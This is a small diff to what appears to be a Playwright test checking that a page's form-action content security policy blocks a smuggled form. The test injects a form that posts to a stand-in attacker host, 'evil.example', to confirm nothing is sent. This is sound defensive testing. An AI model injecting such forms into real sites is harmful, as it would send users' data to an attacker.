@@ -74,7 +74,7 @@ test('a form that is smuggled in sends nothing', async ({ page }) => {
   await smuggle(page, '<form action="https://evil.example/"><button id="send">x</button></form>');
   await page.goto(firstArticle);
   const told = page.waitForEvent('console');
-  await page.locator('#send').click();
+  await page.locator('#send').dispatchEvent('click');
   expect((await told).text()).toContain('form-action');
   expect(new URL(page.url()).pathname).toBe(firstArticle);
 });
